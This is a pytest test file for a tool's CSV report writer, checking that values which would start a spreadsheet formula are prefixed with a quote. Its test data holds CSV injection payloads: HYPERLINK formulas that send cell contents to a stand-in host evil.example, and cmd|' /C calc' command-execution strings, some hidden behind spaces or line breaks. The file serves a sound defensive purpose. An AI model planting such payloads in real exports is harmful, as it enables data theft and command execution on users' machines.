"""The CSV report's formula guard (README, Security model: "A cell that would start a
spreadsheet formula is prefixed with ``'``").

Values in a CSV report come from other systems (usernames, display names, ids) and are
hostile until shown otherwise (SPEC §6). The OWASP CSV injection guidance names the
characters a spreadsheet takes as the start of a formula: ``=``, ``+``, ``-``, ``@``, tab
(0x09) and carriage return (0x0D). An importer or a person may trim leading spaces, after
which a value such as ``" =HYPERLINK(...)"`` starts a formula too.
"""

from __future__ import annotations

import csv
import io

import pytest

from nhirecon.core.correlate import UNMATCHED
from nhirecon.core.findings import account_findings
from nhirecon.core.model import GateResult, Origin
from nhirecon.core.report import Report, TargetStats
from nhirecon.reporters.csv import COLUMNS, CsvReporter, cell

from .factories import ACTIVE, CLOCK, NOW, account, rules

FORMULAS = [
    pytest.param('=HYPERLINK("http://evil.example/?"&A1,"open")', id="equals"),
    pytest.param("+1+cmd|' /C calc'!A0", id="plus"),
    pytest.param("-2+3+cmd|' /C calc'!A0", id="minus"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="at"),
    pytest.param("\t=1+1", id="tab"),
    pytest.param("\r=1+1", id="carriage return"),
    pytest.param("=", id="equals alone"),
    pytest.param("-", id="minus alone"),
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_value_that_starts_a_formula_is_prefixed_with_a_quote(value: str) -> None:
    assert cell(value) == f"'{value}"


LEADING_SPACES = [
    pytest.param(" =1+1", id="space equals"),
    pytest.param("   +1+1", id="spaces plus"),
    pytest.param(" -1+1", id="space minus"),
    pytest.param("  @SUM(1)", id="spaces at"),
    pytest.param(" \t=1+1", id="space tab"),
    pytest.param(" \r=1+1", id="space carriage return"),
]


@pytest.mark.parametrize("value", LEADING_SPACES)
def test_a_formula_after_leading_spaces_is_prefixed_too(value: str) -> None:
    guarded = cell(value)
    assert guarded.startswith("'") and guarded[1:] == value


@pytest.mark.parametrize(
    "value",
    [
        "alice@example.com",  # an @ inside is no formula
        "Alice Example",
        "42",
        "a-b+c=d",
        " alice",  # a leading space before ordinary text
        "'=already quoted",
        "",
    ],
)
def test_ordinary_values_are_left_exactly_as_they_are(value: str) -> None:
    assert cell(value) == value


def test_none_is_an_empty_cell_and_other_values_are_their_text() -> None:
    assert cell(None) == ""
    assert cell(3) == "3"
    assert cell(-3) == "'-3"


def test_an_id_that_looks_negative_is_quoted_as_documented() -> None:
    """The guard does not try to tell a negative number from a formula (``-1+cmd|...``
    is both): every value that starts with ``-`` is quoted, so the spreadsheet shows the
    id as text, exactly as exported."""
    assert cell("-42") == "'-42"
    assert cell("-0.5") == "'-0.5"


def hostile_report() -> Report:
    acc = account(
        "-42",
        username='=HYPERLINK("http://evil.example","x")',
        email="@evil.example",
        origin=Origin.JIT,
        created_at=NOW,
    )
    findings = account_findings(rules(), acc, UNMATCHED, "hr", CLOCK, ACTIVE)
    return Report(
        tool_version="0.0.0",
        generated_at=NOW,
        source_name="hr",
        source_connector="csv",
        identities=1,
        targets=(TargetStats("+app", "csv", 1, 0, 1, 0, 0),),
        findings=tuple(findings),
        excepted=(),
        gate=GateResult(outcomes=()),
    )


def test_the_report_guards_every_column_that_carries_data() -> None:
    rows = list(csv.reader(io.StringIO(CsvReporter().render(hostile_report()))))
    assert rows[0] == list(COLUMNS)
    [row] = [dict(zip(COLUMNS, values, strict=True)) for values in rows[1:]]
    assert row["account_id"] == "'-42"
    assert row["account_username"] == '\'=HYPERLINK("http://evil.example","x")'
    assert row["account_email"] == "'@evil.example"
    assert row["kind"] == "jit-orphan"
    assert row["severity"] == "high"
    # every cell that leaves the guard starts with no formula character
    for name, value in row.items():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)


@pytest.mark.parametrize("breaker", ["\r", "\n", "\r\n", "\u2028"])
def test_a_line_break_in_a_value_cannot_start_a_row_with_a_formula(breaker: str) -> None:
    import csv
    import io

    from nhirecon.core.findings import make
    from nhirecon.core.gate import evaluate
    from nhirecon.core.model import FindingKind, Record, Remediation
    from nhirecon.core.report import Report
    from nhirecon.reporters.csv import CsvReporter
    from tests.factories import NOW

    name = f"x{breaker}=cmd|'/C calc'!A0"
    finding = make(
        FindingKind.ORPHAN,
        "app",
        Record(id="z1", location="app.json:1", username=name),
        None,
        f"{name}: owned by no identity",
        {},
        (Remediation.MANUAL, ""),
    )
    report = Report("0", NOW, "hr", "csv", 1, (), (finding,), (), evaluate((), [finding]))
    rows = list(csv.reader(io.StringIO(CsvReporter().render(report), newline="")))
    assert len(rows) == 2, "the header and one row: the break stays inside its cell"
    assert rows[1][5] == name
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
